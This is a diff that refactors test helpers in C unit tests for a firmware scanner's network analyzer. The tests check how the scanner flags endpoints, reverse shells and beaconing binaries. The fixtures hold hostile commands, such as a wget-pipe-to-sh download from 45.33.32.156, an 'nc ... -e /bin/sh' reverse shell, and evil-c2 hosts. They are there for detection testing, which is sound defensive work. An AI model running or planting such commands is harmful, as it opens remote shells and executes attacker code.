@@ -30,21 +30,6 @@ static int ends_with(const char *s, const char *suffix)
 	return a >= b && strcmp(s + a - b, suffix) == 0;
 }
 
-static void dump(const struct fv_results *r)
-{
-	for (size_t i = 0; i < r->findings.n; i++) {
-		const struct fv_finding *f = &r->findings.v[i];
-		print_message("  %s %s/%s %s @%llu: %s | %s\n", f->rule, fv_severity_name(f->severity),
-			      fv_conf_name(f->confidence), f->path, (unsigned long long)f->offset, f->title,
-			      f->evidence);
-	}
-	for (size_t i = 0; i < r->nendpoints; i++) {
-		const struct fv_endpoint *e = &r->endpoints[i];
-		print_message("  endpoint %s %s outside=%d %s @%llu\n", e->kind, e->value, e->outside, e->path,
-			      (unsigned long long)e->offset);
-	}
-}
-
 static size_t count_at(const struct fv_results *r, const char *rule, const char *suffix)
 {
 	size_t n = 0;
@@ -65,29 +50,15 @@ static const struct fv_finding *naming(const struct fv_results *r, const char *r
 	return NULL;
 }
 
-static const struct fv_finding *must(const struct fv_results *r, const char *rule, const char *suffix,
-				     const char *what)
+static const struct fv_finding *must_naming(const struct fv_results *r, const char *rule,
+					      const char *suffix, const char *what)
 {
 	const struct fv_finding *f = naming(r, rule, suffix, what);
 	if (!f) {
-		dump(r);
+		fv_test_dump(r);
 		fail_msg("no %s at %s naming %s", rule, suffix, what ? what : "anything");
 	}
 	return f;
-}
-
-/* The finding of rule at path whose evidence holds ev. */
-static const struct fv_finding *with_evidence(const struct fv_results *r, const char *rule, const char *suffix,
-					      const char *ev)
-{
-	for (size_t i = 0; i < r->findings.n; i++) {
-		const struct fv_finding *f = &r->findings.v[i];
-		if (!strcmp(f->rule, rule) && ends_with(f->path, suffix) && strstr(f->evidence, ev))
-			return f;
-	}
-	dump(r);
-	fail_msg("no %s at %s with evidence %s", rule, suffix, ev);
-	return NULL;
 }
 
 static const struct fv_endpoint *endpoint(const struct fv_results *r, const char *suffix, const char *value)
@@ -103,19 +74,14 @@ static void assert_absent(const struct fv_results *r, const char *s)
 {
 	for (size_t i = 0; i < r->nendpoints; i++)
 		if (strstr(r->endpoints[i].value, s)) {
-			dump(r);
+			fv_test_dump(r);
 			fail_msg("%s was recorded as an endpoint", s);
 		}
 	for (size_t i = 0; i < r->findings.n; i++)
 		if (strstr(r->findings.v[i].title, s)) {
-			dump(r);
+			fv_test_dump(r);
 			fail_msg("%s was reported", s);
 		}
-}
-
-static void put_text(const char *root, const char *path, const char *text)
-{
-	fv_test_write_file(root, path, text, strlen(text));
 }
 
 static uint64_t offset_of(const char *text, const char *needle)
@@ -151,22 +117,22 @@ static void script_endpoints(void **state)
 	(void)state;
 	char root[64];
 	fv_test_tmpdir(root, sizeof root, "net-script");
-	put_text(root, "etc/init.d/S99update", updater);
+	fv_test_put(root, "etc/init.d/S99update", updater);
 	struct fv_results r;
 	scan(root, &r);
 
 	/* Three outside endpoints, one finding each although the evil host appears twice. */
 	assert_int_equal(count_at(&r, "FV-NET-001", "/etc/init.d/S99update"), 3);
-	const struct fv_finding *f = must(&r, "FV-NET-001", "/etc/init.d/S99update", "updates.evil-c2.net");
+	const struct fv_finding *f = must_naming(&r, "FV-NET-001", "/etc/init.d/S99update", "updates.evil-c2.net");
 	assert_int_equal(f->severity, FV_SEV_LOW); /* used by wget */
 	assert_int_equal(f->confidence, FV_CONF_HIGH);
 	assert_int_equal(f->offset, offset_of(updater, "http://updates.evil-c2.net/fw.bin"));
 	assert_string_equal(f->evidence, "wget http://updates.evil-c2.net/fw.bin -O /tmp/x");
 	assert_string_equal(f->category, "exfiltration");
-	f = must(&r, "FV-NET-001", "/etc/init.d/S99update", "45.33.32.156");
+	f = must_naming(&r, "FV-NET-001", "/etc/init.d/S99update", "45.33.32.156");
 	assert_int_equal(f->severity, FV_SEV_INFO);
 	assert_int_equal(f->offset, offset_of(updater, "45.33.32.156"));
-	f = must(&r, "FV-NET-001", "/etc/init.d/S99update", "pool.ntp.org");
+	f = must_naming(&r, "FV-NET-001", "/etc/init.d/S99update", "pool.ntp.org");
 	assert_int_equal(f->severity, FV_SEV_INFO);
 	assert_int_equal(f->confidence, FV_CONF_MEDIUM);
 
@@ -189,7 +155,7 @@ static void script_endpoints(void **state)
 	for (size_t i = 0; i < sizeof inside / sizeof *inside; i++) {
 		e = endpoint(&r, "/etc/init.d/S99update", inside[i]);
 		if (!e) {
-			dump(&r);
+			fv_test_dump(&r);
 			fail_msg("%s was not recorded", inside[i]);
 		}
 		assert_int_equal(e->outside, 0);
@@ -229,7 +195,7 @@ static void config_endpoints(void **state)
 	(void)state;
 	char root[64];
 	fv_test_tmpdir(root, sizeof root, "net-config");
-	put_text(root, "etc/config/network", config);
+	fv_test_put(root, "etc/config/network", config);
 	struct fv_results r;
 	scan(root, &r);
 	const char *p = "/etc/config/network";
@@ -237,7 +203,7 @@ static void config_endpoints(void **state)
 	assert_non_null(e);
 	assert_string_equal(e->kind, "ipv6");
 	assert_int_equal(e->outside, 1);
-	must(&r, "FV-NET-001", p, "2a03:2880:f10c:83:face:b00c::25de");
+	must_naming(&r, "FV-NET-001", p, "2a03:2880:f10c:83:face:b00c::25de");
 	assert_non_null(e = endpoint(&r, p, "fe80::1"));
 	assert_int_equal(e->outside, 0);
 	assert_non_null(e = endpoint(&r, p, "2001:db8::1"));
@@ -247,7 +213,7 @@ static void config_endpoints(void **state)
 	/* The password never reaches the report. */
 	assert_non_null(e = endpoint(&r, p, "ftp://admin:***@files.example-cdn.com/up/"));
 	assert_int_equal(e->outside, 1);
-	const struct fv_finding *f = must(&r, "FV-NET-001", p, "files.example-cdn.com");
+	const struct fv_finding *f = must_naming(&r, "FV-NET-001", p, "files.example-cdn.com");
 	assert_null(strstr(f->evidence, "s3cretPW"));
 	assert_non_null(strstr(f->evidence, "ftp://admin:***@files.example-cdn.com/up/"));
 	for (size_t i = 0; i < r.nendpoints; i++)
@@ -256,9 +222,9 @@ static void config_endpoints(void **state)
 	assert_non_null(e = endpoint(&r, p, "http://localhost:8080/"));
 	assert_int_equal(e->outside, 0);
 	/* A weak TLD needs www. or a port; strong ones stand alone; upper case is an identifier. */
-	must(&r, "FV-NET-001", p, "www.shady-site.top");
-	must(&r, "FV-NET-001", p, "cdn.shady.top");
-	must(&r, "FV-NET-001", p, "c2.badhost.ru");
+	must_naming(&r, "FV-NET-001", p, "www.shady-site.top");
+	must_naming(&r, "FV-NET-001", p, "cdn.shady.top");
+	must_naming(&r, "FV-NET-001", p, "c2.badhost.ru");
 	static const char *const never[] = { "00:11:22", "12:30:45", "%s", "$HOST", "vendor-mail.com",
 					     "user.id", "window.top", "file.name", "this.store", "content.net",
 					     "upper.ru", "std::", "Foo::Bar" };
@@ -277,8 +243,8 @@ static void duplicate_content(void **state)
 	char root[64];
 	fv_test_tmpdir(root, sizeof root, "net-dup");
 	const char *s = "#!/bin/sh\nwget -q -O- http://45.33.32.156:8080/cmd | sh\n";
-	put_text(root, "usr/sbin/a.sh", s);
-	put_text(root, "opt/b.sh", s);
+	fv_test_put(root, "usr/sbin/a.sh", s);
+	fv_test_put(root, "opt/b.sh", s);
 	struct fv_results r;
 	scan(root, &r);
 	assert_int_equal(count_at(&r, "FV-NET-001", "/usr/sbin/a.sh"), 1);
@@ -341,25 +307,25 @@ static void reverse_shells(void **state)
 	for (size_t i = 0; i < nyes; i++) {
 		snprintf(path, sizeof path, "bin/rs%02zu.sh", i);
 		snprintf(text, sizeof text, "#!/bin/sh\n# reverse shell %zu\nsleep 5\n%s\nexit 0\n", i, shells[i]);
-		put_text(root, path, text);
+		fv_test_put(root, path, text);
 	}
 	for (size_t i = 0; i < nno; i++) {
 		snprintf(path, sizeof path, "bin/ok%02zu.sh", i);
 		snprintf(text, sizeof text, "#!/bin/sh\n%s\n", not_shells[i]);
-		put_text(root, path, text);
+		fv_test_put(root, path, text);
 	}
 	/* Init scripts often have no #! line: text files are read too. */
-	put_text(root, "etc/rc.local", "touch /var/run/up\nnc 45.33.32.156 4444 -e /bin/sh &\n");
+	fv_test_put(root, "etc/rc.local", "touch /var/run/up\nnc 45.33.32.156 4444 -e /bin/sh &\n");
 	struct fv_results r;
 	scan(root, &r);
 	for (size_t i = 0; i < nyes; i++) {
 		snprintf(path, sizeof path, "/bin/rs%02zu.sh", i);
 		if (count_at(&r, "FV-NET-002", path) != 1) {
-			dump(&r);
+			fv_test_dump(&r);
 			fail_msg("%s: %zu reverse shell findings for: %s", path, count_at(&r, "FV-NET-002", path),
 				 shells[i]);
 		}
-		const struct fv_finding *f = must(&r, "FV-NET-002", path, NULL);
+		const struct fv_finding *f = must_naming(&r, "FV-NET-002", path, NULL);
 		assert_int_equal(f->severity, FV_SEV_CRITICAL);
 		assert_string_equal(f->category, "backdoor");
 		/* The evidence is the line (continuation lines joined), at the line's offset. */
@@ -370,11 +336,11 @@ static void reverse_shells(void **state)
 	for (size_t i = 0; i < nno; i++) {
 		snprintf(path, sizeof path, "/bin/ok%02zu.sh", i);
 		if (count_at(&r, "FV-NET-002", path) != 0) {
-			dump(&r);
+			fv_test_dump(&r);
 			fail_msg("%s: a reverse shell in: %s", path, not_shells[i]);
 		}
 	}
-	const struct fv_finding *f = must(&r, "FV-NET-002", "/etc/rc.local", NULL);
+	const struct fv_finding *f = must_naming(&r, "FV-NET-002", "/etc/rc.local", NULL);
 	assert_string_equal(f->evidence, "nc 45.33.32.156 4444 -e /bin/sh &");
 	assert_int_equal(f->offset, strlen("touch /var/run/up\n"));
 	fv_results_free(&r);
@@ -462,14 +428,14 @@ static void binaries(void **state)
 	free(bin);
 
 	/* A dynamic binary importing connect: medium, sure of its imports. */
-	const struct fv_finding *f = with_evidence(&r, "FV-NET-003", "/usr/bin/beacon", "45.33.32.156");
+	const struct fv_finding *f = fv_test_must(&r, "FV-NET-003", "/usr/bin/beacon", "45.33.32.156");
 	assert_int_equal(f->severity, FV_SEV_MEDIUM);
 	assert_int_equal(f->confidence, FV_CONF_HIGH);
 	assert_string_equal(f->evidence, "45.33.32.156");
 	assert_int_equal(f->offset, c2off);
 	assert_non_null(strstr(f->title, "connect()"));
 	assert_int_equal(count_at(&r, "FV-NET-003", "/usr/bin/beacon"), 1);
-	f = must(&r, "FV-NET-001", "/usr/bin/beacon", "45.33.32.156");
+	f = must_naming(&r, "FV-NET-001", "/usr/bin/beacon", "45.33.32.156");
 	assert_int_equal(f->severity, FV_SEV_LOW);
 	assert_int_equal(f->offset, c2off);
 	assert_int_equal(count_at(&r, "FV-NET-001", "/usr/bin/beacon"), 1);
@@ -477,34 +443,34 @@ static void binaries(void **state)
 	assert_null(naming(&r, "FV-NET-001", "/usr/bin/beacon", "2.6.36.4"));
 
 	/* Reading /etc/shadow as well: high, native and MIPS alike. */
-	f = with_evidence(&r, "FV-NET-003", "/usr/bin/stealer", "45.33.32.156");
+	f = fv_test_must(&r, "FV-NET-003", "/usr/bin/stealer", "45.33.32.156");
 	assert_int_equal(f->severity, FV_SEV_HIGH);
 	assert_non_null(strstr(f->title, "/etc/shadow"));
-	f = with_evidence(&r, "FV-NET-003", "/usr/sbin/stealer.mips", "45.33.32.156");
+	f = fv_test_must(&r, "FV-NET-003", "/usr/sbin/stealer.mips", "45.33.32.156");
 	assert_int_equal(f->severity, FV_SEV_HIGH);
 	assert_int_equal(f->confidence, FV_CONF_HIGH);
 
 	/* Static: the wrapper's symbol shows connect (medium); stripped, nothing can be seen (low). */
-	f = with_evidence(&r, "FV-NET-003", "/usr/bin/beacon.static", "45.33.32.156");
+	f = fv_test_must(&r, "FV-NET-003", "/usr/bin/beacon.static", "45.33.32.156");
 	assert_int_equal(f->severity, FV_SEV_MEDIUM);
 	assert_int_equal(f->confidence, FV_CONF_MEDIUM);
-	f = with_evidence(&r, "FV-NET-003", "/usr/bin/beacon.stripped", "45.33.32.156");
+	f = fv_test_must(&r, "FV-NET-003", "/usr/bin/beacon.stripped", "45.33.32.156");
 	assert_int_equal(f->severity, FV_SEV_MEDIUM);
 	assert_int_equal(f->confidence, FV_CONF_LOW);
 
 	/* No network imports: the URL is information, not a capability; the help text is not a shell. */
-	f = must(&r, "FV-NET-001", "/usr/bin/quiet", "updates.evil-c2.net");
+	f = must_naming(&r, "FV-NET-001", "/usr/bin/quiet", "updates.evil-c2.net");
 	assert_int_equal(f->severity, FV_SEV_INFO);
 	assert_null(naming(&r, "FV-NET-003", "/usr/bin/quiet", NULL));
 	assert_null(naming(&r, "FV-NET-001", "/usr/bin/quiet", "vendor-docs.com"));
 	assert_int_equal(count_at(&r, "FV-NET-002", "/usr/bin/quiet"), 1);
-	f = must(&r, "FV-NET-002", "/usr/bin/quiet", NULL);
+	f = must_naming(&r, "FV-NET-002", "/usr/bin/quiet", NULL);
 	assert_non_null(strstr(f->evidence, "mkfifo /tmp/f"));
 	/* Endpoints quoted in sentences (banner, bug reports) are not what a client sends to. */
 	assert_int_equal(count_at(&r, "FV-NET-003", "/usr/sbin/banner"), 0);
-	f = must(&r, "FV-NET-001", "/usr/sbin/banner", "www.acme-ssh.net");
+	f = must_naming(&r, "FV-NET-001", "/usr/sbin/banner", "www.acme-ssh.net");
 	assert_int_equal(f->severity, FV_SEV_INFO);
-	f = must(&r, "FV-NET-001", "/usr/sbin/banner", "bugs.acme-ssh.net");
+	f = must_naming(&r, "FV-NET-001", "/usr/sbin/banner", "bugs.acme-ssh.net");
 	assert_int_equal(f->severity, FV_SEV_INFO);
 	fv_results_free(&r);
 	fv_test_rmtree(root);
@@ -525,13 +491,13 @@ static void printable_runs(void **state)
 	fv_test_write_file(root, "usr/bin/blob", blob, sizeof blob - 1);
 	struct fv_results r;
 	scan(root, &r);
-	must(&r, "FV-NET-001", "/usr/bin/blob", "45.33.32.156");
-	must(&r, "FV-NET-001", "/usr/bin/blob", "7.7.7.7");
-	must(&r, "FV-NET-001", "/usr/bin/blob", "c2.bad.ru");
-	must(&r, "FV-NET-001", "/usr/bin/blob", "1.1.1.1");
-	must(&r, "FV-NET-001", "/usr/bin/blob", "9.9.9.10");
-	must(&r, "FV-NET-001", "/usr/bin/blob", "c2.evil-c2.net");
-	must(&r, "FV-NET-001", "/usr/bin/blob", "update.io");
+	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "45.33.32.156");
+	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "7.7.7.7");
+	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "c2.bad.ru");
+	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "1.1.1.1");
+	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "9.9.9.10");
+	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "c2.evil-c2.net");
+	must_naming(&r, "FV-NET-001", "/usr/bin/blob", "update.io");
 	assert_absent(&r, "9.9.9.9"); /* a string ends at a byte that is not printable */
 	/*
 	 * What binaries are full of: two-label country names that are field
@@ -555,17 +521,17 @@ static void user_rules(void **state)
 	char root[64], rules[64];
 	fv_test_tmpdir(root, sizeof root, "net-user");
 	fv_test_tmpdir(rules, sizeof rules, "net-user-rules");
-	put_text(root, "etc/app.conf", "server=collect.intra.corp\nmirror=dl.vendor-cdn.com\n");
+	fv_test_put(root, "etc/app.conf", "server=collect.intra.corp\nmirror=dl.vendor-cdn.com\n");
 	struct fv_results r;
 	scan(root, &r);
 	assert_int_equal(count_at(&r, "FV-NET-001", "/etc/app.conf"), 1);
-	must(&r, "FV-NET-001", "/etc/app.conf", "dl.vendor-cdn.com");
+	must_naming(&r, "FV-NET-001", "/etc/app.conf", "dl.vendor-cdn.com");
 	fv_results_free(&r);
-	put_text(rules, "network/tlds.txt", "# ours\ncorp\n");
-	put_text(rules, "network/ignore.txt", "host vendor-cdn.com\n");
+	fv_test_put(rules, "network/tlds.txt", "# ours\ncorp\n");
+	fv_test_put(rules, "network/ignore.txt", "host vendor-cdn.com\n");
 	fv_test_analyze_rules(root, &fv_analyzer_network, rules, &r);
 	assert_int_equal(count_at(&r, "FV-NET-001", "/etc/app.conf"), 1);
-	must(&r, "FV-NET-001", "/etc/app.conf", "collect.intra.corp");
+	must_naming(&r, "FV-NET-001", "/etc/app.conf", "collect.intra.corp");
 	fv_results_free(&r);
 	fv_test_rmtree(root);
 	fv_test_rmtree(rules);
